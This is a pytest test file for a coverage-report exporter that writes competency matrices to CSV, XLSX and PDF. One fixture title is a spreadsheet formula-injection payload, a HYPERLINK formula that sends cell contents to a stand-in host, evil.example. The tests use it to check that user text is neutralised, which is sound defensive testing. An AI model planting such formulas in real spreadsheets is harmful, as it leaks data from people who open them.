"""Exports of a coverage report built directly from the models (no matcher, so fast): CSV, XLSX, PDF."""

from __future__ import annotations

import csv
import io
import re
import shutil
import struct
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook

from assistant.coverage import export
from assistant.coverage.analysis import CoverageReport, ItemCompetency, ItemCoverage, ItemEvidence, Suggestion

COLUMNS = ("A.1", "A.4", "B.1", "C.2", "D")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
BUDGET = "build and manage the annual budget"
SURVEY = "design a short exit survey"


def _ev(text: str, level: int, start: int = 0) -> ItemEvidence:
    return ItemEvidence(start=start, end=start + len(text), text=text, level=level)


def _comp(cid: str, name: str, level: int, *texts: str) -> ItemCompetency:
    return ItemCompetency(id=cid, name=name, level=level, evidence=tuple(_ev(t, level) for t in texts))


def _report(items: tuple[ItemCoverage, ...], title: str | None = "Spring workshop day") -> CoverageReport:
    matrix = {i.id: {c.id: c.level for c in i.competencies} for i in items}
    served = {cid for row in matrix.values() for cid in row}
    gaps = tuple(c for c in COLUMNS if c not in served)
    names = {"A.1": "Mission, Vision, and Goals", "A.4": "Finances", "B.1": "Audiences", "C.2": "Efficient Practice",
             "D": "General Expertise"}
    suggestions = tuple(Suggestion(gap=g, name=names[g], text=f"Nothing in this set serves {names[g]} ({g}).",
                                   cites=(g, "use:professional-organizations")) for g in gaps)
    return CoverageReport(kind="program", title=title, items=items, columns=COLUMNS, matrix=matrix, gaps=gaps,
                          over_weighted=("A.4",), suggestions=suggestions)


@pytest.fixture
def report() -> CoverageReport:
    return _report((
        ItemCoverage(id="s1", title="Budgets for program leads", competencies=(
            _comp("A.4", "Finances", 3, BUDGET, "write grant proposals"),
            _comp("D", "General Expertise", 1, "forecast revenue"))),
        ItemCoverage(id="s2", title="Lunch"),
        ItemCoverage(id="s3", title="Evaluating what visitors take away", competencies=(
            _comp("B.1", "Audiences", 2, SURVEY), _comp("A.4", "Finances", 1, "set a budget"))),
        ItemCoverage(id="s4", title=HOSTILE, competencies=(_comp("C.2", "Efficient Practice", 2, "-1 day"),)),
    ))


# ---------------------------------------------------------------- CSV


def test_csv_parses_back_with_every_item_and_its_competencies(report: CoverageReport) -> None:
    rows = list(csv.DictReader(io.StringIO(export.to_csv(report))))
    assert tuple(rows[0]) == export.CSV_FIELDS
    assert [r["item_id"] for r in rows] == ["s1", "s1", "s2", "s3", "s3", "s4"]
    assert {r["item_id"] for r in rows} == {i.id for i in report.items}
    first = rows[0]
    assert (first["competency_id"], first["competency_name"], first["level"]) == ("A.4", "Finances", "3")
    assert first["evidence"] == f"{BUDGET} | write grant proposals"
    lunch = next(r for r in rows if r["item_id"] == "s2")
    assert lunch["item_title"] == "Lunch"
    assert all(lunch[k] == "" for k in ("competency_id", "competency_name", "level", "evidence"))


def test_csv_guards_user_text_against_formula_injection(report: CoverageReport) -> None:
    hostile = next(r for r in csv.DictReader(io.StringIO(export.to_csv(report))) if r["item_id"] == "s4")
    assert hostile["item_title"] == "'" + HOSTILE
    assert hostile["evidence"] == "'-1 day"  # evidence is the user's own words too
    assert hostile["competency_id"] == "C.2"  # ordinary values untouched


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_safe_cell_prefixes_formula_starts(value: str) -> None:
    assert export.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Budgets", "A.4", "", "1+1", "a=b", "'quoted"])
def test_safe_cell_leaves_plain_text(value: str) -> None:
    assert export.safe_cell(value) == value


# ---------------------------------------------------------------- XLSX


def test_xlsx_matrix_holds_levels_with_a_fill_per_level(report: CoverageReport) -> None:
    wb = load_workbook(io.BytesIO(export.to_xlsx(report)))
    assert wb.sheetnames == ["Matrix", "Competencies", "Gaps"]
    ws = wb["Matrix"]
    header = [c.value for c in ws[1]]
    assert header[:2] == ["Item", "Title"] and header[2:] == [
        "A.1 Mission, Vision, and Goals", "A.4 Finances", "B.1 Audiences", "C.2 Efficient Practice",
        "D General Expertise"]
    assert ws.freeze_panes == "C2"
    col = {cid: n for n, cid in enumerate(COLUMNS, start=3)}
    row = {ws.cell(row=r, column=1).value: r for r in range(2, ws.max_row + 1)}
    assert list(row) == ["s1", "s2", "s3", "s4"]
    for item in report.items:
        for cid in COLUMNS:
            assert ws.cell(row=row[item.id], column=col[cid]).value == report.matrix[item.id].get(cid)
    fills = {lvl: ws.cell(row=row[i], column=col[c]).fill.start_color.rgb
             for lvl, i, c in ((3, "s1", "A.4"), (1, "s1", "D"), (2, "s3", "B.1"))}
    assert len(set(fills.values())) == 3
    assert ws.cell(row=row["s1"], column=col["A.4"]).fill.fill_type == "solid"
    assert ws.cell(row=row["s2"], column=col["A.4"]).fill.fill_type is None  # not served: blank
    assert ws.column_dimensions["C"].width >= 12 and ws.row_dimensions[1].height >= 30


def test_xlsx_competencies_are_the_csv_rows_and_user_text_is_not_a_formula(report: CoverageReport) -> None:
    wb = load_workbook(io.BytesIO(export.to_xlsx(report)))
    got = [[c.value for c in r] for r in wb["Competencies"].iter_rows(min_row=2)]
    want = [[r[k] for k in export.CSV_FIELDS] for r in csv.DictReader(io.StringIO(export.to_csv(report)))]
    assert [[("" if v is None else str(v)) for v in r] for r in got] == want
    assert [c.value for c in wb["Competencies"][1]] == list(export.CSV_FIELDS)
    for ws in (wb["Matrix"], wb["Competencies"]):
        cells = [c for r in ws.iter_rows() for c in r if isinstance(c.value, str) and "HYPERLINK" in c.value]
        assert cells and all(c.data_type == "s" and c.value == "'" + HOSTILE for c in cells)
    assert got[0][4] == 3  # levels stay numbers


def test_xlsx_gaps_sheet_has_each_gap_with_its_suggestion(report: CoverageReport) -> None:
    ws = load_workbook(io.BytesIO(export.to_xlsx(report)))["Gaps"]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    assert report.gaps == ("A.1",)
    assert rows == [["A.1", "Mission, Vision, and Goals", "Nothing in this set serves Mission, Vision, and Goals (A.1).",
                     "A.1; use:professional-organizations"]]


def test_xlsx_drops_control_characters_openpyxl_refuses() -> None:
    report = _report((ItemCoverage(id="s1", title="Bell\x07 and\x00 null"),))
    ws = load_workbook(io.BytesIO(export.to_xlsx(report)))["Matrix"]
    assert ws.cell(row=2, column=2).value == "Bell and null"


# ---------------------------------------------------------------- PDF


def _core_font_text(pdf: bytes) -> str:
    """The strings an uncompressed core-font PDF shows (``(...) Tj``), unescaped, one per line."""
    shown = re.findall(rb"\(((?:\\.|[^\\)])*)\)\s*Tj", pdf)
    return "\n".join(re.sub(rb"\\(.)", rb"\1", s).decode("latin-1") for s in shown)


def test_pdf_has_title_heatmap_gaps_and_items(report: CoverageReport, tmp_path: Path) -> None:
    no_fonts = tmp_path / "no-fonts"
    no_fonts.mkdir()
    pdf = export.to_pdf(report, font_dir=no_fonts, compress=False)
    assert pdf.startswith(b"%PDF-")
    text = _core_font_text(pdf)
    for part in ("Spring workshop day", "Kind: program", "Coverage matrix", "Gaps and suggestions",
                 "Over-weighted areas", "A.4 Finances: served by 2 of 4 items.", "Items",
                 "Nothing in this set serves Mission, Vision, and Goals (A.1).", f'"{BUDGET}"'):
        assert part in text, part
    for item in report.items:
        assert item.title in text, item.title  # the PDF shows titles as written (it runs no formulas)
    assert b"/Subtype /Image" in pdf


def test_pdf_renders_with_dejavu_when_installed(report: CoverageReport, tmp_path: Path) -> None:
    pdf = export.to_pdf(report)
    assert pdf.startswith(b"%PDF-") and len(pdf) > 10_000
    if not shutil.which("pdftotext"):
        pytest.skip("pdftotext (poppler-utils) is not installed: text is checked on the core-font PDF instead")
    out = tmp_path / "coverage.pdf"
    out.write_bytes(pdf)
    text = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True, check=True).stdout
    assert "Spring workshop day" in text and "Budgets for program leads" in text


def test_pdf_core_font_folds_unicode_titles(tmp_path: Path) -> None:
    report = _report((ItemCoverage(id="s1", title="Café — budgets ☃"),), title="Día “uno”")
    pdf = export.to_pdf(report, font_dir=tmp_path, compress=False)
    text = _core_font_text(pdf)
    assert "Café - budgets ?" in text and 'Día "uno"' in text


def _png_height(png: bytes) -> int:
    assert png.startswith(b"\x89PNG\r\n\x1a\n")
    return int(struct.unpack(">I", png[20:24])[0])


def _many(n: int) -> CoverageReport:
    levels = (1, 2, 3)
    items = tuple(
        ItemCoverage(id=f"s{i:02d}", title=f"Session {i} on a long and winding topic of the day", competencies=(
            _comp(COLUMNS[i % 4], "Area", levels[i % 3], f"evidence {i}"),)) for i in range(n))
    return _report(items, title="A forty-session conference")


def test_heatmap_grows_with_the_number_of_items() -> None:
    report = _many(25)
    assert _png_height(export.heatmap_png(report, report.items[:20])) > _png_height(
        export.heatmap_png(report, report.items[:5]))


def test_forty_items_render_to_pdf_with_the_matrix_split(tmp_path: Path) -> None:
    report = _many(40)
    pdf = export.to_pdf(report, font_dir=tmp_path, compress=False)
    assert pdf.startswith(b"%PDF-")
    text = _core_font_text(pdf)
    assert "Items 1-25 of 40" in text and "Items 26-40 of 40" in text
    assert all(f"{i.id} - {i.title}" in text for i in report.items)
    assert export.to_pdf(report).startswith(b"%PDF-")  # and with DejaVu
